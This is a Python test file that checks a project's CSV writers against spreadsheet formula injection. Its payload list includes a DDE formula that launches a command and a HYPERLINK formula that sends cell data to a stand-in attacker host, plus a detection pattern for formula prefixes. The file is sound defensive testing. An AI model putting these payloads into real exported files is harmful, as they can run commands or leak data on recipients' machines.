"""Hostile tests of CSV formula injection (issue 14, "Also found"): every CSV tipnet writes for people
to open escapes cells a spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR), and no writer bypasses
the one safe writer."""

from __future__ import annotations

import csv
import re
from pathlib import Path

from typer.testing import CliRunner

from tipnet.cli import app
from tipnet.ingest import csvsafe
from tipnet.ingest.errors import RowError
from tipnet.ingest.pipeline import IngestReport, RejectsWriter
from tipnet.ingest.readers import RawRow

SRC = Path(__file__).resolve().parents[2] / "src" / "tipnet"
PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1", "＝1"]  # fmt: skip


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")]


def test_the_safe_writer_escapes_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csvsafe.writer(f).writerows([PAYLOADS, [-5, 0.25, "ok", ""]])
    cells = _cells(path)
    assert not _dangerous(cells[: len(PAYLOADS)])
    assert cells[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert cells[len(PAYLOADS) :] == ["-5", "0.25", "ok", ""]  # numbers tipnet computed stay numbers


def test_ingest_rejects_file_escapes_ids_and_reasons(tmp_path: Path) -> None:
    report = IngestReport(source_type="crossings", file=tmp_path / "in.csv")
    writer = RejectsWriter(tmp_path / "rejects.csv", report)
    for i, payload in enumerate(PAYLOADS):
        writer.add(RawRow(i + 1, i + 2, None), RowError(payload, payload), org=payload, record_id=payload)
    writer.close()
    assert not _dangerous(_cells(tmp_path / "rejects.csv"))


def test_link_csv_outputs_escape_ids(tmp_path: Path) -> None:
    src = tmp_path / "people.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["pid", "first", "last", "dob"])
        for i, payload in enumerate(PAYLOADS):
            w.writerow([payload, "Dara", "Sok", "1990-05-01"])  # duplicates of each other: pairs
            w.writerow([f"{payload}{i}", "", "", ""])  # no name: rejected with its id
    out = tmp_path / "out"
    result = CliRunner().invoke(
        app,
        ["link", "csv", str(src), "--out", str(out), "-c", "id=pid", "-c", "given_name=first",
         "-c", "family_name=last", "-c", "birth_date=dob", "--threshold", "0.5", "--review-low", "0.1"],
    )  # fmt: skip
    assert result.exit_code in (0, 1), result.output
    written = [p for p in out.glob("*.csv")]
    assert {p.name for p in written} >= {"pairs.csv", "clusters.csv", "rejects.csv"}
    ids = [c for p in written for c in _cells(p)]
    assert any(c.startswith("'=cmd") for c in ids)
    for path in written:
        assert not _dangerous(_cells(path)), path.name


def test_every_csv_writer_in_tipnet_is_the_safe_one() -> None:
    """csv.writer / DictWriter only inside csvsafe, and in the simulator, whose agency files are input
    data read back byte for byte (phone numbers start with "+"), not reports for a spreadsheet (the bank
    book of sim/finance.py too: 10 million rows written by pyarrow)."""
    allowed = {SRC / "ingest" / "csvsafe.py", SRC / "sim" / "output.py", SRC / "sim" / "finance.py"}
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bto_csv\(|\bwrite_csv\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path not in allowed and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
